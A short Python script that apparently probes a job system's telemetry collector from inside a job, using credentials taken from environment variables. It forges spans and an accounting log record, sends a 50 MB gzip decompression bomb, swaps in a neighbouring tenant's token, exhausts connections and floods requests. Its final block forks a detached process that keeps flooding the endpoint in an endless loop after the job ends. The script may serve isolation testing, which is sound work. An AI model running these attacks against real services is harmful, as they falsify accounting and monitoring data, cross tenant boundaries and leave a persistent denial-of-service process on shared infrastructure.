"""telltale: everything that a payload could try with the door for its telemetry. Prints what it was answered."""

import gzip
import http.client
import json
import os
import socket
import time
from collections import Counter
from urllib.parse import unquote, urlsplit

ADDRESS = urlsplit(os.environ["OTEL_EXPORTER_OTLP_ENDPOINT"]).netloc
TOKEN = unquote(os.environ["OTEL_EXPORTER_OTLP_HEADERS"].partition("=")[2])
_, TRACE, PAYLOAD, _ = os.environ["TRACEPARENT"].split("-")
UID = os.environ["OTEL_RESOURCE_ATTRIBUTES"].rpartition("=")[2]


def post(path: str, body: bytes, token: str = TOKEN, **headers: str) -> tuple[int, str]:
    """One call."""
    connection = http.client.HTTPConnection(ADDRESS, timeout=20)
    try:
        connection.request("POST", path, body, {"Content-Type": "application/json", "Authorization": token, **headers})
        response = connection.getresponse()
        return response.status, response.read().decode(errors="replace")
    finally:
        connection.close()


def span(**changes: object) -> bytes:
    """A request with one span."""
    now = time.time_ns()
    one = {"traceId": TRACE, "spanId": "00000000000000aa", "name": "mine", "kind": 1, "parentSpanId": PAYLOAD}
    one |= {"startTimeUnixNano": str(now), "endTimeUnixNano": str(now), **changes}
    return json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": [one]}]}]}).encode()


uid = {"key": "log.record.uid", "value": {"stringValue": f"{UID}/wrapper/1"}}
record = {"eventName": "jobspan.job.accounting", "attributes": [uid]}
idle = [socket.create_connection(ADDRESS.split(":")) for _ in range(100)]
answers = {
    "mine": post("/v1/traces", span()),
    "stage": post("/v1/traces", span(name="jobspan.stage.execute")),
    "payload": post("/v1/traces", span(spanId=PAYLOAD)),
    "record": post("/v1/logs", json.dumps({"resourceLogs": [{"scopeLogs": [{"logRecords": [record]}]}]}).encode()),
    "bomb": post("/v1/logs", gzip.compress(bytes(50 << 20)), **{"Content-Encoding": "gzip"}),
    "neighbour": post("/v1/traces", span(), token=TOKEN.replace(".1~", ".2~")),
}
flood = Counter(
    post("/v1/traces", span(name=str(number), spanId=f"{0xB000 + number:016x}"))[0] for number in range(100)
)
print(json.dumps({"answers": answers, "flood": flood}), flush=True)

if os.fork() == 0:  # goes on when the job has ended
    os.setsid()
    if os.fork() == 0:
        while True:
            try:
                post("/v1/traces", span(name="late", spanId=os.urandom(8).hex()))
            except OSError:
                continue
